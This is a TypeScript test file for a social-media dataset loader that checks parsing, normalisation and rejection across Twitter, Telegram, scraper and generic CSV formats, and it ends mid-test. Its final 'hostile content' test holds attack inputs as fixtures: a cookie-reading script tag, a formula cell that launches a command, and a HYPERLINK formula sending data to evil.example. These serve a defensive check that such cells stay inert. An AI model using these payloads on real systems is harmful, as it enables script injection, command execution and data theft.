// Every input format on small hand-written fixtures (test/fixtures/): what loads, normalised, and what is
// rejected, with its reason and place. Variants (BOM, CRLF, gzip, broken files) are made in a temp folder.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { basename } from 'node:path';
import { describe, it } from 'node:test';
import { gzipSync } from 'node:zlib';
import { InputError, MAX_RECORD_BYTES, parseMapping } from '../../src/ingest/index.js';
import {
  formatIngestReport,
  type LoadOptions,
  loadFiles,
  MAX_TEXT_CHARS,
} from '../../src/normalize/index.js';
import {
  accounts,
  byId,
  fileReport,
  fixture,
  load,
  openStore,
  type PostRow,
  posts,
  reasons,
  rejected,
  tempFile,
} from './_helpers.js';

const IO_TWEETS = fixture('io-archive', 'tweets.csv');
const IO_USERS = fixture('io-archive', 'users.csv');
const HASHED = 'q3Pk+XU7b0vbU2qNn1p4v0oZy9QhmeDq3wB5lY0XN8E=';
const ZWNJ = '\u200c';

/** Posts without the given columns (for comparing variants of one file). */
function without(rows: PostRow[], ...columns: (keyof PostRow)[]): Record<string, unknown>[] {
  return rows.map((r) => {
    const copy: Record<string, unknown> = { ...r };
    for (const c of columns) delete copy[c];
    return copy;
  });
}

describe('IO archive CSV (tweets + users)', () => {
  it('reads the tweets file by header name and the users file beside it', async () => {
    const { store, report } = await load([IO_TWEETS, IO_USERS]);
    const tweets = fileReport(report, 0);
    const users = fileReport(report, 1);
    assert.equal(tweets.format, 'io-archive-tweets');
    assert.equal(tweets.platform, 'twitter');
    assert.equal(tweets.rowsRead, 8);
    assert.equal(tweets.rowsLoaded, 6);
    assert.equal(tweets.rowsRejected, 2);
    assert.equal(users.format, 'io-archive-users');
    assert.equal(users.rowsRead, 4);
    assert.equal(users.rowsLoaded, 4);
    assert.equal(users.accounts, 4);
    assert.deepEqual(report.totals, {
      posts: 6,
      accounts: 4,
      rowsRead: 12,
      rowsRejected: 2,
      rowsMerged: 0,
    });

    const post = byId(await posts(store));
    const original = post('1578000000000000001');
    assert.equal(original.kind, 'post');
    assert.equal(original.account, '2987014451');
    assert.equal(original.time, '2022-10-06T12:30:00.000Z');
    assert.deepEqual(original.hashtags, ['مهسا_امینی']);
    // From the urls list cell, not the t.co link in the text; tracking parameters and www. dropped.
    assert.deepEqual(original.urls, ['https://iranintl.com/202210061234']);
    assert.deepEqual(original.domains, ['iranintl.com']);
    assert.equal(original.client, 'Twitter for Android');
    assert.equal(original.lang, 'fa');

    const retweet = post('1578000000000000002');
    assert.equal(retweet.kind, 'repost');
    assert.equal(retweet.account, HASHED);
    assert.equal(retweet.repost_of, '1578000000000000001');
    assert.equal(retweet.repost_of_account, '2987014451');
    // user_mentions lists the retweeted account: the RT @handle: prefix, not a mention of the retweeter's.
    assert.deepEqual(retweet.mentions, []);

    const reply = post('1578000000000000003');
    assert.equal(reply.kind, 'reply');
    assert.equal(reply.reply_to, '1578000000000000001');
    assert.equal(reply.reply_to_account, '2987014451');

    const quote = post('1578000000000000004');
    assert.equal(quote.kind, 'quote');
    assert.equal(quote.quote_of, '1578000000000000001');

    const multiline = post('1578000000000000005');
    assert.equal(multiline.text, 'خط اول: اعتصاب\nخط دوم #اعتصابات_سراسري\n"نان، کار، آزادی" خط سوم');
    assert.equal(multiline.record, 5);
    assert.deepEqual(multiline.hashtags, ['اعتصابات_سراسری'], 'Arabic yeh folded to Persian');

    const last = post('1578000000000000008');
    assert.equal(last.record, 8);
    assert.equal(last.text_norm, 'کشور ما، آینده ما #iranrevolution');
    assert.deepEqual(last.hashtags, ['iranrevolution']);

    const account = byId(await accounts(store));
    const sahar = account('2987014451');
    assert.equal(sahar.handle, 'sahar_tehrani1401');
    assert.equal(sahar.name, 'سحر تهرانی');
    assert.equal(sahar.followers, 15500, 'the users file overrides the count copied into the tweets file');
    assert.equal(sahar.following, 415);
    assert.equal(sahar.created, '2015-01-20T00:00:00.000Z');
    assert.equal(account(HASHED).handle, HASHED);
    assert.equal(account('1500000000000000042').handle, 'sample_news_fa', 'an account with no tweets');
  });

  it('rejects a bad time and a short record with their physical lines, after a multi-line record', async () => {
    const { report } = await load([IO_TWEETS]);
    const f = fileReport(report);
    assert.deepEqual(reasons(f), [
      ['too few fields', 1],
      ['unreadable time', 1],
    ]);
    const time = rejected(f, 'unreadable time');
    assert.equal(time.examples[0]?.record, 6);
    assert.equal(time.examples[0]?.line, 9, 'record 5 spans lines 6-8');
    assert.match(time.examples[0]?.detail ?? '', /cannot read time "2018-13-01 10:00"/);
    const short = rejected(f, 'too few fields');
    assert.equal(short.examples[0]?.record, 7);
    assert.equal(short.examples[0]?.line, 10);
  });

  it('lets the users file win whichever order the files come in', async () => {
    const { store } = await load([IO_USERS, IO_TWEETS]);
    const account = byId(await accounts(store));
    assert.equal(account('2987014451').followers, 15500);
    assert.equal(account('2987014451').following, 415);
  });

  it('rejects a record longer than MAX_RECORD_BYTES with its line, and loads the records around it', async () => {
    const lines = readFileSync(IO_USERS, 'utf8').trimEnd().split('\n');
    const [header, ...rows] = lines;
    assert.ok(header && rows.length >= 2);
    const huge = `"999","huge","huge","","${'x'.repeat(MAX_RECORD_BYTES + 1024)}","","1","1","2020-01-01","fa"`;
    const users = tempFile('users-huge.csv', [header, rows[0], huge, ...rows.slice(1), ''].join('\n'));
    const { report } = await load([users]);
    const f = fileReport(report);
    assert.equal(f.rowsLoaded, rows.length);
    assert.deepEqual(reasons(f), [['record too long', 1]]);
    assert.equal(rejected(f, 'record too long').examples[0]?.line, 3);
  });

  it('rejects repeated and id-less accounts in a users file, with their lines', async () => {
    const lines = readFileSync(IO_USERS, 'utf8').trimEnd().split('\n');
    const [header, first] = lines;
    const users = tempFile(
      'users-bad.csv',
      [...lines, first, '"","nameless","nameless","","","","1","1","2020-01-01","fa"', ''].join('\n'),
    );
    assert.ok(header);
    const { report } = await load([users]);
    const f = fileReport(report);
    assert.equal(f.rowsLoaded, 4);
    assert.deepEqual(reasons(f), [
      ['duplicate account', 1],
      ['missing account', 1],
    ]);
    assert.equal(rejected(f, 'duplicate account').examples[0]?.line, 6);
    assert.equal(rejected(f, 'missing account').examples[0]?.line, 7);
  });

  describe('the same file with a BOM, CRLF line ends, or gzip', () => {
    const bytes = readFileSync(IO_TWEETS);
    const crlf = Buffer.from(bytes.toString('utf8').replaceAll('\n', '\r\n'), 'utf8');
    const variants: [string, Buffer][] = [
      ['bom.csv', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), bytes])],
      ['crlf.csv', crlf],
      ['bom-crlf.csv', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), crlf])],
      ['tweets.csv.gz', gzipSync(bytes)],
      ['crlf.csv.gz', gzipSync(crlf)],
      // LF line ends, but one quoted text holds a CRLF (pasted from Windows): still LF records.
      ['lf-with-crlf-in-text.csv', Buffer.from(bytes.toString('utf8').replace('اعتصاب\nخط', 'اعتصاب\r\nخط'))],
    ];
    for (const [name, content] of variants) {
      it(`loads ${name} exactly as the plain file`, async () => {
        const plain = await load([IO_TWEETS]);
        const variant = await load([tempFile(name, content)]);
        const a = fileReport(plain.report);
        const b = fileReport(variant.report);
        assert.equal(b.format, 'io-archive-tweets');
        assert.deepEqual(
          [b.rowsRead, b.rowsLoaded, b.rowsRejected],
          [a.rowsRead, a.rowsLoaded, a.rowsRejected],
        );
        const places = (f: typeof a) =>
          f.rejections.map((g) => [g.reason, g.examples.map((e) => [e.record, e.line])]);
        assert.deepEqual(places(b), places(a));
        // Quoted texts keep their own line ends; everything else, text_norm included, is identical.
        assert.deepEqual(
          without(await posts(variant.store), 'text'),
          without(await posts(plain.store), 'text'),
        );
        assert.deepEqual(await accounts(variant.store), await accounts(plain.store));
      });
    }
  });
});

describe('Twitter API v2', () => {
  it('reads a response page: data, includes.users and includes.tweets', async () => {
    const { store, report } = await load([fixture('twitter-v2', 'page.json')]);
    const f = fileReport(report);
    assert.equal(f.format, 'twitter-v2');
    assert.deepEqual([f.rowsRead, f.rowsLoaded, f.rowsRejected], [5, 5, 0]);
    const post = byId(await posts(store));

    const first = post('2001');
    assert.equal(first.kind, 'post');
    assert.equal(first.time, '2022-11-15T08:30:00.000Z');
    assert.deepEqual(first.hashtags, ['اعتصابات_سراسری']);
    assert.deepEqual(first.urls, ['https://bbc.com/persian/iran-63629999?at_medium=RSS']);
    assert.equal(first.client, 'Twitter for Android');

    const retweet = post('2002');
    assert.equal(retweet.kind, 'repost');
    assert.equal(retweet.repost_of, '3001');
    assert.equal(retweet.repost_of_account, '1103', 'author of the original, from includes.tweets');
    assert.deepEqual(retweet.mentions, [], 'the RT @journalist_x: prefix is no mention of its own');
    assert.deepEqual(retweet.urls, ['https://iranintl.com/en/202211150101'], 'unwound_url preferred');

    const reply = post('2003');
    assert.equal(reply.kind, 'reply');
    assert.equal(reply.reply_to, '2001');
    assert.equal(reply.reply_to_account, '1101');
    assert.deepEqual(reply.mentions, ['1101'], 'mentioned accounts by id, as the IO archive lists them');

    const quote = post('2004');
    assert.equal(quote.kind, 'quote');
    assert.equal(quote.quote_of, '3001');
    // No entities: hashtags come from the text, ZWNJ read as the joiner.
    assert.deepEqual(quote.hashtags, ['zahedan', 'مهسا_امینی']);
    assert.equal(quote.text, `ببینید #مهسا${ZWNJ}امینی و #Zahedan https://t.co/Qt4`);

    const included = post('3001');
    assert.equal(included.kind, 'post');
    assert.equal(included.account, '1103');
    assert.deepEqual(included.urls, ['https://iranintl.com/en/202211150101']);

    const account = byId(await accounts(store));
    assert.deepEqual(
      { ...account('1101'), file_id: 0 },
      {
        platform: 'twitter',
        id: '1101',
        handle: 'azadi_now',
        name: 'آزادی اکنون',
        created: '2019-04-11T08:00:00.000Z',
        followers: 2300,
        following: 150,
        lang: null,
        file_id: 0,
      },
    );
    assert.equal(account('1103').followers, 98000);
  });

  it('reads the same pages as JSON Lines; an original repeated in two pages is merged', async () => {
    const { store, report } = await load([fixture('twitter-v2', 'pages.jsonl')]);
    const f = fileReport(report);
    assert.equal(f.format, 'twitter-v2');
    // The repeat is merged, not rejected: read = loaded + rejected + merged.
    assert.deepEqual([f.rowsRead, f.rowsLoaded, f.rowsRejected, f.rowsMerged], [7, 6, 0, 1]);
    assert.deepEqual(f.rejections, []);
    const repeat = f.merges.find((g) => g.reason === 'repeated post id (merged into its first row)');
    assert.equal(repeat?.count, 1);
    assert.equal(repeat?.examples[0]?.line, 2);
    assert.match(formatIngestReport(report), /rejected 0, merged 1 into posts already loaded/);
    assert.doesNotMatch(formatIngestReport(report), /rejected 1/);
    const rows = await posts(store);
    assert.deepEqual(
      rows.map((r) => r.id),
      ['2001', '2002', '2003', '2004', '2005', '3001'],
    );
    const late = byId(rows)('2005');
    assert.equal(late.time, '2022-11-15T10:00:00.000Z');
    assert.deepEqual(late.urls, ['https://iranintl.com/en/202211150101']);
    assert.equal(late.lang, 'en');
  });

  it('reads one tweet per line and rejects an invalid line with its number', async () => {
    const { store, report } = await load([fixture('twitter-v2', 'tweets.jsonl')]);
    const f = fileReport(report);
    assert.deepEqual([f.rowsRead, f.rowsLoaded, f.rowsRejected], [4, 3, 1]);
    const bad = rejected(f, 'invalid JSON');
    assert.deepEqual(
      bad.examples.map((e) => [e.line, e.record]),
      [[3, null]],
    );
    const post = byId(await posts(store));
    assert.equal(post('4002').kind, 'repost');
    assert.equal(post('4002').repost_of, '4001');
    assert.equal(post('4002').repost_of_account, '1201');
    assert.equal(post('4004').kind, 'reply');
    assert.equal(post('4004').reply_to_account, '1201');
    assert.deepEqual(post('4004').hashtags, ['مهسا_امینی']);
  });

  it('reads a JSON array of pages', async () => {
    const [page1, page2] = readFileSync(fixture('twitter-v2', 'pages.jsonl'), 'utf8').trim().split('\n');
    const path = tempFile('pages-array.json', `[${page1},\n${page2}]\n`);
    const { store, report } = await load([path]);
    assert.equal(fileReport(report).rowsLoaded, 6);
    assert.equal((await posts(store)).length, 6);
  });
});

describe('Twitter API v1.1 JSONL', () => {
  const check = async (path: string) => {
    const { store, report } = await load([path]);
    const f = fileReport(report);
    assert.equal(f.format, 'twitter-v1');
    assert.deepEqual([f.rowsRead, f.rowsLoaded, f.rowsRejected], [4, 4, 0]);
    const post = byId(await posts(store));

    const extended = post('1578600000000000010');
    assert.equal(extended.kind, 'post');
    assert.equal(extended.time, '2022-10-08T09:15:00.000Z');
    assert.ok(extended.text?.endsWith('#مهسا_امینی #اعتصابات_سراسری https://t.co/Lg1'), 'full text');
    // Entities of the full text (extended_tweet.entities), not of the truncated one.
    assert.deepEqual(extended.hashtags, ['اعتصابات_سراسری', 'مهسا_امینی']);
    assert.deepEqual(extended.urls, ['https://iranintl.com/202210080001']);
    assert.equal(extended.client, 'Twitter for Android', 'the source anchor reduced to its text');

    const retweet = post('1578600000000000011');
    assert.equal(retweet.kind, 'repost');
    assert.equal(retweet.repost_of, '1578600000000000001');
    assert.equal(retweet.repost_of_account, '19000001');
    assert.deepEqual(retweet.hashtags, ['iranprotests']);
    assert.deepEqual(retweet.mentions, [], 'the RT @bbcpersian: prefix is no mention of its own');
    assert.equal(retweet.client, 'Twitter Web App');

    const reply = post('1578600000000000012');
    assert.equal(reply.kind, 'reply');
    assert.equal(reply.reply_to, '1578600000000000001');
    assert.equal(reply.reply_to_account, '19000001');
    assert.equal(reply.client, 'Twitter for iPhone');

    const quote = post('1578600000000000013');
    assert.equal(quote.kind, 'quote');
    assert.equal(quote.quote_of, '1578600000000000001');
    assert.equal(quote.client, 'autoposter_v2');

    const account = byId(await accounts(store));
    assert.equal(account('2987014451').created, '2015-01-20T09:12:44.000Z');
    assert.equal(account('2987014451').followers, 15230);
    assert.equal(account('1575000000000000777').handle, 'Ali73829104');
    assert.equal(account('1575000000000000777').following, 950);
  };

  it('reads tweets, retweets, replies, quotes and extended tweets', async () => {
    await check(fixture('twitter-v1', 'tweets.jsonl'));
  });

  it('reads the same gzip-compressed', async () => {
    await check(tempFile('tweets.jsonl.gz', gzipSync(readFileSync(fixture('twitter-v1', 'tweets.jsonl')))));
  });
});

describe('Telegram', () => {
  it('reads a single-chat Desktop export: text as string or entities, forwards, replies', async () => {
    const { store, report } = await load([fixture('telegram', 'result.json')]);
    const f = fileReport(report);
    assert.equal(f.format, 'telegram-export');
    assert.equal(f.platform, 'telegram');
    assert.deepEqual([f.rowsRead, f.rowsLoaded, f.rowsRejected], [5, 4, 1]);
    assert.equal(rejected(f, 'not a post (service message)').examples[0]?.record, 1);

    const post = byId(await posts(store));
    const plain = post('1512345678/2');
    assert.equal(plain.account, 'channel1512345678');
    assert.equal(plain.kind, 'post');
    assert.equal(plain.time, '2022-09-17T16:30:00.000Z', 'from date_unixtime, not the local date');
    assert.equal(plain.text_norm, 'تجمع امشب ساعت 21 در میدان آزادی. زن زندگی آزادی');

    const rich = post('1512345678/3');
    assert.equal(
      rich.text,
      'ویدیو از خیابان ولیعصر #مهسا_امینی منبع: https://www.youtube.com/watch?v=AbCdEf12345&feature=share&utm_source=tg و این گزارش @IranIntl_fa',
    );
    assert.deepEqual(rich.hashtags, ['مهسا_امینی']);
    assert.deepEqual(rich.urls, [
      'https://iranwire.com/fa/news/108000',
      'https://youtube.com/watch?feature=share&v=AbCdEf12345',
    ]);
    assert.deepEqual(rich.mentions, ['iranintl_fa']);

    const forward = post('1512345678/4');
    assert.equal(forward.kind, 'repost');
    assert.equal(forward.repost_of_account, '1500tasvir');
    assert.match(forward.repost_of ?? '', /^text:/, 'a forward names no original: keyed by source and text');

    const reply = post('1512345678/5');
    assert.equal(reply.kind, 'reply');
    assert.equal(reply.reply_to, '1512345678/3');

    const [channel, ...others] = await accounts(store);
    assert.deepEqual(others, []);
    assert.equal(channel?.id, 'channel1512345678');
    assert.equal(channel?.name, 'اخبار فوری ایران');
  });

  it('keeps messages with the same id in two chats of a full export apart', async () => {
    const { store, report } = await load([fixture('telegram', 'full-export.json')]);
    const f = fileReport(report);
    assert.equal(f.format, 'telegram-export');
    assert.deepEqual([f.rowsRead, f.rowsLoaded, f.rowsRejected], [4, 3, 1]);
    assert.deepEqual(reasons(f), [['not a post (service message)', 1]]);
    const rows = await posts(store);
    assert.deepEqual(
      rows.map((r) => [r.id, r.account]),
      [
        ['1600000001/10', 'channel1600000001'],
        ['1600000001/11', 'channel1600000001'],
        ['1700000002/10', 'user5550001'],
      ],
    );
    assert.deepEqual(
      rows.map((r) => r.hashtags),
      [['اعتصابات_سراسری'], [], ['اعتصابات_سراسری']],
    );
    assert.deepEqual(
      (await accounts(store)).map((a) => [a.id, a.name]),
      [
        ['channel1600000001', 'کانال خبری الف'],
        ['user5550001', 'مریم'],
      ],
    );
  });

  it('reads channel message arrays ({message_id, sender_id, text, date, channel})', async () => {
    const { store, report } = await load([fixture('telegram', 'channel-messages.json')]);
    const f = fileReport(report);
    assert.equal(f.format, 'telegram-messages');
    assert.deepEqual([f.rowsRead, f.rowsLoaded, f.rowsRejected], [3, 3, 0]);
    const post = byId(await posts(store));
    const first = post('1237513492/73170');
    assert.equal(first.account, 'channel1237513492', 'the -100 Bot API prefix dropped');
    assert.equal(first.time, '2024-12-04T08:50:11.000Z');
    assert.deepEqual(first.urls, ['https://t.me/+KnfcPt4fhT9kNjRi'], 'a Markdown link, without its ")"');
    assert.deepEqual(post('1237513492/73171').hashtags, ['новости']);
    assert.equal(post('1237513492/73172').kind, 'repost');
    assert.equal(post('1237513492/73172').repost_of_account, 'РИА Новости');
    assert.equal((await accounts(store))[0]?.name, 'Топор+');
  });
});

describe('scraper JSON', () => {
  it('reads an array of {ID, Text, Hashtags, Timestamp, UserID, Username}', async () => {
    const { store, report } = await load([fixture('scraper', 'tweets.json')]);
    const f = fileReport(report);
    assert.equal(f.format, 'scraper-json');
    assert.deepEqual([f.rowsRead, f.rowsLoaded, f.rowsRejected], [3, 3, 0]);
    const post = byId(await posts(store));
    const first = post('1576339808804212736');
    assert.equal(first.time, '2022-10-01T22:34:32.000Z', 'Timestamp as a string of epoch seconds');
    assert.equal(first.account, '936644193933553665');
    assert.deepEqual(first.hashtags, ['مهسا_امینی']);
    assert.deepEqual(first.urls, ['https://t.co/bdXnpaEPiG']);
    assert.equal(post('1575634262371377152').time, '2022-09-29T23:50:59.000Z', 'Timestamp as a number');
    assert.deepEqual(post('1575634262371377152').hashtags, ['iranrevolution', 'مهسا_امینی']);
    // Hashtags null: taken from the text, Arabic alef maksura and yeh folded.
    assert.deepEqual(post('1575700000000000001').hashtags, ['برای_ایران']);
    assert.equal(byId(await accounts(store))('58260990').handle, 'farshidmanafi');
  });
});

describe('generic CSV', () => {
  const MAPPED = fixture('generic', 'posts-mapped.csv');
  const mapping = parseMapping(
    'id=post_id,account=author_id,name=author_name,time=created_at,text=body,hashtags=tags,urls=link,reply_to=reply_to_id,followers=follower_n',
  );

  it('reads mapped columns; NA is missing; rows without account or time are rejected', async () => {
    const { store, report } = await load([MAPPED], { mapping });
    const f = fileReport(report);
    assert.equal(f.format, 'csv');
    assert.equal(f.platform, 'generic');
    assert.deepEqual([f.rowsRead, f.rowsLoaded, f.rowsRejected], [5, 3, 2]);
    assert.equal(rejected(f, 'missing account').examples[0]?.line, 5);
    const time = rejected(f, 'unreadable time').examples[0];
    assert.equal(time?.line, 6);
    assert.match(time?.detail ?? '', /"yesterday"/);

    const post = byId(await posts(store));
    const first = post('p-001');
    assert.equal(first.time, '2022-10-01T10:00:00.000Z');
    assert.deepEqual(first.hashtags, ['زن_زندگی_آزادی', 'مهسا_امینی'], 'from an unquoted [a, b] cell');
    assert.deepEqual(first.urls, ['https://radiofarda.com/a/32059812.html']);
    const reply = post('p-002');
    assert.equal(reply.time, '2022-10-01T06:32:00.000Z', '+03:30 offset');
    assert.equal(reply.kind, 'reply');
    assert.equal(reply.reply_to, 'p-001');
    assert.deepEqual(reply.urls, [], 'NA link');
    assert.deepEqual(reply.mentions, ['nasrin_17']);
    assert.equal(post('p-003').time, '2022-10-01T10:00:00.000Z', 'epoch seconds');

    const account = byId(await accounts(store));
    assert.equal(account('u-17').name, 'نسرین');
    assert.equal(account('u-17').followers, 1250, 'from the latest post');
    assert.equal(account('u-18').followers, null, 'NA');
  });

  it('takes the platform and the zone of zoneless times from the options', async () => {
    const { store, report } = await load([fixture('generic', 'no-ids.csv')], {
      mapping: parseMapping('account=user,time=when,text=message'),
      platform: 'instagram',
      timeZone: 'Asia/Tehran',
    });
    assert.equal(fileReport(report).platform, 'instagram');
    assert.equal(fileReport(report).timeZone, 'Asia/Tehran');
    const rows = await posts(store);
    assert.deepEqual(
      rows.map((r) => [r.platform, r.time]),
      [
        ['instagram', '2022-10-01T06:30:00.000Z'],
        ['instagram', '2022-10-01T06:30:00.000Z'],
        ['instagram', '2022-10-01T06:31:00.000Z'],
      ],
    );
  });

  it('gives rows without an id column one each: two identical rows stay two posts', async () => {
    const path = fixture('generic', 'no-ids.csv');
    const options: LoadOptions = { mapping: parseMapping('account=user,time=when,text=message') };
    const { store, report } = await load([path], options);
    assert.deepEqual([fileReport(report).rowsLoaded, fileReport(report).rowsRejected], [3, 0]);
    const rows = await posts(store);
    assert.equal(new Set(rows.map((r) => r.id)).size, 3);
    assert.deepEqual(
      rows.map((r) => [r.account, r.record]),
      [
        ['u-1', 1],
        ['u-1', 2],
        ['u-2', 3],
      ],
    );
    // The ids come from the file's content; the very same file again is known by its SHA-256, not loaded twice.
    const again = await loadFiles(store, [path], options);
    assert.equal(fileReport(again).alreadyLoadedAs, 'no-ids.csv');
    assert.deepEqual(reasons(fileReport(again)), []);
    assert.equal(again.totals.posts, 3);
  });

  it('detects the ira538 layout: lower-cased accounts, US Central time, RT texts as reposts', async () => {
    const { store, report } = await load([fixture('generic', 'ira538.csv')]);
    const f = fileReport(report);
    assert.equal(f.format, 'csv:ira538');
    assert.equal(f.timeZone, 'America/Chicago');
    assert.deepEqual([f.rowsRead, f.rowsLoaded, f.rowsRejected], [4, 4, 0]);
    const rows = await posts(store);
    const byAccountTime = (account: string, time: string) => {
      const row = rows.find((r) => r.account === account && r.time === time);
      assert.ok(row, `${account} at ${time}`);
      return row;
    };
    // 2015-11-25 21:00 CST (UTC-6) and, in summer, 2016-07-04 12:00 CDT (UTC-5).
    const rt1 = byAccountTime('ryanncooperwood', '2015-11-26T03:00:00.000Z');
    const rt2 = byAccountTime('gwen_garland', '2015-11-26T03:01:00.000Z');
    const source = byAccountTime('heatherpapton', '2015-11-26T02:55:00.000Z');
    const quote = byAccountTime('gwen_garland', '2016-07-04T17:00:00.000Z');
    assert.equal(rt1.kind, 'repost');
    assert.equal(rt1.repost_of_account, 'heatherpapton');
    assert.match(rt1.repost_of ?? '', /^text:/);
    assert.equal(rt1.repost_of, rt2.repost_of, 'two retweets of one text share their original');
    assert.deepEqual(rt1.hashtags, ['kochfarms']);
    assert.equal(source.kind, 'post');
    assert.equal(
      source.text,
      "#KochFarms turkeys poisoned in New York! Don't buy them for Thanksgiving!\nShare before they delete it",
    );
    assert.equal(quote.kind, 'quote');
    assert.equal(rt1.lang, 'English');
    const account = byId(await accounts(store));
    assert.equal(account('heatherpapton').handle, 'HeatherPapton');
    assert.equal(account('heatherpapton').followers, 1200);
    assert.equal(account('gwen_garland').followers, 70, 'from the latest post');
  });

  it('detects the coortweet retweet layout (quoted R output)', async () => {
    const { store, report } = await load([fixture('generic', 'coortweet-retweets.csv')]);
    const f = fileReport(report);
    assert.equal(f.format, 'csv:coortweet');
    assert.deepEqual([f.rowsRead, f.rowsLoaded, f.rowsRejected], [3, 3, 0]);
    const rows = await posts(store);
    assert.deepEqual(
      rows
        .map((r) => [r.account, r.kind, r.repost_of, r.time])
        .sort((a, b) => String(a[3]).localeCompare(String(b[3]))),
      [
        [
          '7d0e462c10d52c4ec1db5af953bf9b26',
          'repost',
          '89864519cd34cabd6f5a801b6857fea6',
          '2021-06-16T21:38:03.000Z',
        ],
        [
          '0fb4232d1b7b37069c13ee17579bd10e',
          'repost',
          '85d2d12251a735ce05255061f7f231e2',
          '2021-06-16T22:04:51.000Z',
        ],
        [
          '7d0e462c10d52c4ec1db5af953bf9b26',
          'repost',
          '85d2d12251a735ce05255061f7f231e2',
          '2021-06-16T22:04:55.000Z',
        ],
      ],
    );
    const contentIds = [
      '114e22f1b2b648528277b76f0b0224e7',
      '60e1901aa670f6c05a2d7f7e74cadaf3',
      'a1e1901aa670f6c05a2d7f7e74cadaf4',
    ];
    assert.ok(
      contentIds.every((c) => rows.some((r) => r.id.includes(c))),
      `ids come from content_id: ${rows.map((r) => r.id)}`,
    );
    assert.equal((await accounts(store)).length, 2);
  });

  it('detects the coortweet co-sharing layout: NA cells, pseudo-URLs, hashtag ids', async () => {
    const { store, report } = await load([fixture('generic', 'coortweet-cosharing.csv')]);
    const f = fileReport(report);
    assert.equal(f.format, 'csv:coortweet');
    assert.deepEqual([f.rowsRead, f.rowsLoaded, f.rowsRejected], [4, 4, 0]);
    const post = byId(await posts(store));
    assert.equal(post('129235').account, 'fb_12670');
    assert.equal(post('129235').time, '2021-08-21T23:50:36.000Z');
    assert.deepEqual(post('129235').urls, ['coortweet://domain-3498/url-23678']);
    assert.deepEqual(post('129235').hashtags, []);
    assert.deepEqual(post('84441').urls, [], 'url_id NA');
    assert.deepEqual(post('9001').hashtags, ['tag77']);
    assert.deepEqual(post('9001').urls, ['coortweet://image/phash-5512']);
    assert.deepEqual(post('9002').urls, post('129235').urls, 'the same shared link on two platforms');
  });

  it('parseMapping rejects unknown fields, a missing account and malformed pairs', () => {
    assert.throws(() => parseMapping('account=a,author=b'), {
      name: 'InputError',
      message: /unknown field "author"/,
    });
    assert.throws(() => parseMapping('time=created_at,text=body'), /the account field is required/);
    assert.throws(() => parseMapping('account'), /expected field=column, got "account"/);
    assert.throws(() => parseMapping('account='), /expected field=column/);
    assert.deepEqual(parseMapping(' account = author_id , time=created_at,'), {
      account: 'author_id',
      time: 'created_at',
    });
  });

  it('names the file and the columns when a mapping names columns the header lacks', async () => {
    const store = await openStore();
    await assert.rejects(
      loadFiles(store, [MAPPED], { mapping: parseMapping('account=author,time=created_at') }),
      (err: Error) =>
        err instanceof InputError &&
        err.message.includes('posts-mapped.csv') &&
        /account=author/.test(err.message),
    );
  });
});

describe('de-duplication', () => {
  it('counts a post already loaded from another file as merged, not rejected', async () => {
    const { store, report } = await load([
      fixture('twitter-v2', 'page.json'),
      fixture('twitter-v2', 'pages.jsonl'),
    ]);
    const second = fileReport(report, 1);
    // Page 1 of pages.jsonl is page.json; its original 3001 also appears again in page 2.
    assert.deepEqual(reasons(second), []);
    assert.deepEqual(
      second.merges.map((g) => [g.reason, g.count]),
      [['post already in the store', 6]],
    );
    assert.deepEqual(
      [second.rowsRead, second.rowsLoaded, second.rowsRejected, second.rowsMerged],
      [7, 1, 0, 6],
    );
    assert.match(second.merges[0]?.examples[0]?.detail ?? '', /already in the store/);
    const rows = await posts(store);
    assert.equal(rows.length, 6);
    assert.equal(byId(rows)('2001').file_id, 1, 'the first file keeps the post');
  });

  it('says a file is already loaded (same SHA-256) instead of rejecting its every post', async () => {
    const { store, report } = await load([IO_TWEETS, IO_TWEETS]);
    const again = fileReport(report, 1);
    assert.equal(again.alreadyLoadedAs, basename(IO_TWEETS));
    assert.deepEqual([again.rowsRead, again.rowsLoaded, again.rowsRejected, again.rowsMerged], [0, 0, 0, 0]);
    assert.equal((await posts(store)).length, 6);
    const text = formatIngestReport(report);
    assert.match(text, /already loaded \(same SHA-256 as tweets\.csv\): not loaded again/);
    assert.doesNotMatch(text, /duplicate post id|already in the store/);
    // A later load into the same store says so too, and the store lists the file once.
    const later = await loadFiles(store, [IO_TWEETS]);
    assert.equal(fileReport(later).alreadyLoadedAs, basename(IO_TWEETS));
    const files = await store.one<{ n: bigint }>(`SELECT count(*) AS n FROM files`);
    assert.equal(files.n, 1n);
  });
});

describe('files lockstep cannot read', () => {
  const cases: [string, string, RegExp][] = [
    ['empty.csv', '', /empty\.csv: the file is empty/],
    ['blank.json', '  \n\t\n  ', /blank\.json: the file holds only blank space/],
    ['unknown.csv', 'foo,bar,baz\n1,2,3\n', /unknown\.csv: CSV with columns foo, bar, baz is not a layout/],
    ['unknown.json', '{"kind": "something", "items": [1, 2]}\n', /unknown\.json: JSON with keys kind, items/],
    ['scalar.json', '[1, 2, 3]\n', /scalar\.json: JSON whose first value is not an object/],
  ];
  for (const [name, content, message] of cases) {
    it(`${name}: loadFiles rejects, naming the file`, async () => {
      const store = await openStore();
      await assert.rejects(loadFiles(store, [tempFile(name, content)]), (err: Error) => {
        assert.ok(err instanceof InputError, `${err.name}: ${err.message}`);
        assert.match(err.message, message);
        return true;
      });
    });
  }

  it('a missing file is named', async () => {
    const store = await openStore();
    await assert.rejects(
      loadFiles(store, ['/nonexistent/tweets.csv']),
      /\/nonexistent\/tweets\.csv: no such file/,
    );
  });

  it('loads nothing when a valid file comes with an unknown one (every file is detected first)', async () => {
    const store = await openStore();
    const unknown = tempFile('unknown-2.csv', 'foo,bar\n1,2\n');
    await assert.rejects(loadFiles(store, [IO_TWEETS, unknown]), /unknown-2\.csv/);
    const counts = await store.one<{ posts: bigint; accounts: bigint; files: bigint }>(
      'SELECT (SELECT count(*) FROM posts) AS posts, (SELECT count(*) FROM accounts) AS accounts, (SELECT count(*) FROM files) AS files',
    );
    assert.deepEqual(counts, { posts: 0n, accounts: 0n, files: 0n });
  });
});

describe('hostile content', () => {
  it('stores scripts and formula-like cells as text, and cuts a 1 MB text', async () => {
    const huge = `${'آزادی '.repeat(180_000)}#پایان`;
    assert.ok(huge.length > 1_000_000);
    const csv = [
      'id,author,time,body',
      'h1,attacker,2022-10-01T10:00:00Z,"<script>alert(document.cookie)</script> #مهسا_امینی"',
      `h2,=cmd|' /C calc'!A0,2022-10-01T10:01:00Z,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`,
